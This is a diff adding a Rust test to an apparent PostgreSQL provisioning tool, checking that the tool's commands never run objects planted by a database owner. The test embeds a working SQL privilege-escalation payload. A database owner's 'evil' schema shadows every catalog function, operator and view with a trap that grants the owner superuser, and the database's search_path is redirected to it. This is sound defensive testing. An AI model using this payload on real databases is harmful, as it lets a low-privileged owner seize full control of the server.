@@ -622,3 +622,103 @@ fn a_locale_is_the_providers() {
         }
     });
 }
+
+/// For each function, operator and relation of the server another one that the database's owner made, which makes a superuser of them
+/// whoever is led to it. The owner sets the search path for everybody who connects, too.
+const MINES: &str = r#"
+CREATE SCHEMA evil AUTHORIZATION owner;
+SET ROLE owner;
+CREATE FUNCTION evil.trap() RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN
+  IF pg_catalog.current_setting('is_superuser')::pg_catalog.bool THEN
+    EXECUTE 'ALTER ROLE owner SUPERUSER';
+  END IF;
+  RETURN true;
+END $$;
+DO $$
+DECLARE
+  it record;
+BEGIN
+  FOR it IN
+    SELECT proname, pg_get_function_identity_arguments(oid) AS arguments, pg_get_function_result(oid) AS result, proretset
+    FROM pg_proc
+    WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND provariadic = 0
+      AND NOT EXISTS (SELECT FROM pg_type WHERE pg_type.oid = ANY (prorettype || proargtypes::oid[]) AND typtype = 'p')
+  LOOP
+    BEGIN
+      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', it.proname, it.arguments, it.result,
+        CASE WHEN it.proretset THEN 'BEGIN PERFORM evil.trap(); END' ELSE 'BEGIN PERFORM evil.trap(); RETURN NULL; END' END);
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+  END LOOP;
+  FOR it IN
+    SELECT oprname, format_type(oprleft, NULL) AS of_left, format_type(oprright, NULL) AS of_right, oprcode::regproc AS name,
+      (SELECT proname FROM pg_proc WHERE oid = oprcode) AS function
+    FROM pg_operator
+    WHERE oprleft <> 0 AND oprnamespace = 'pg_catalog'::regnamespace
+  LOOP
+    BEGIN
+      EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)',
+        it.oprname, it.of_left, it.of_right, it.function);
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+  END LOOP;
+  FOR it IN
+    SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
+  LOOP
+    BEGIN
+      EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%1$I WHERE evil.trap()', it.relname);
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+  END LOOP;
+END $$;
+ALTER DATABASE app SET search_path = evil, pg_catalog;
+ALTER DATABASE app SET standard_conforming_strings = off;
+"#;
+
+#[test]
+fn what_the_owner_of_a_database_makes_and_sets_is_never_run_by_the_superuser() {
+    each_quiet(
+        "what_the_owner_of_a_database_makes_and_sets_is_never_run_by_the_superuser",
+        |cluster| {
+            let declared = declared(&[database("app", json!({ "schemas": ["evil"] }))]);
+            ended(&dbgen(cluster, &declared, &["apply"]), 0);
+            cluster.sql("app", "DROP SCHEMA IF EXISTS evil");
+            cluster.sql("app", MINES);
+            let made = "SET search_path = pg_catalog; SELECT count(*) > 1500 FROM pg_catalog.pg_proc WHERE pronamespace = 'evil'::regnamespace";
+            let mut there = cluster.client(&["-XAtqc", made], "app", "postgres", None);
+            assert_eq!(seen(&mut there, b"").out, "t\n");
+            let innocent = "SELECT rolsuper FROM pg_roles WHERE rolname = 'owner'";
+            assert_eq!(cluster.sql("postgres", innocent), "f");
+            // A superuser who just asks is led astray, which shows that the mines are real.
+            let mut astray = cluster.client(
+                &["-XAtqc", "BEGIN; SELECT count(*) FROM pg_class; SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'owner'; ROLLBACK"],
+                "app",
+                "postgres",
+                None,
+            );
+            assert!(seen(&mut astray, b"").out.ends_with("t\n"));
+            let removed =
+                json!({ "removed": { "databases": ["app"], "dumpDirectory": "/nonexistent" } });
+            let removing = json!({ "instances": { "main": removed }, "services": {
+                "app": { "databases": [database("other", json!({}))] } } });
+            for (declared, arguments) in [
+                (&declared, &["plan"][..]),
+                (&declared, &["apply"]),
+                (&declared, &["apply", "--without-passwords"]),
+                (&declared, &["verify"]),
+                (&removing, &["plan", "--remove"]),
+                (&removing, &["apply", "--remove"]),
+            ] {
+                let seen = dbgen(cluster, declared, arguments);
+                assert_ne!(seen.status, Some(2), "{arguments:?}: {}", seen.err);
+                assert_eq!(
+                    cluster.sql("postgres", innocent),
+                    "f",
+                    "{arguments:?}: {}",
+                    seen.out
+                );
+            }
+        },
+    );
+}
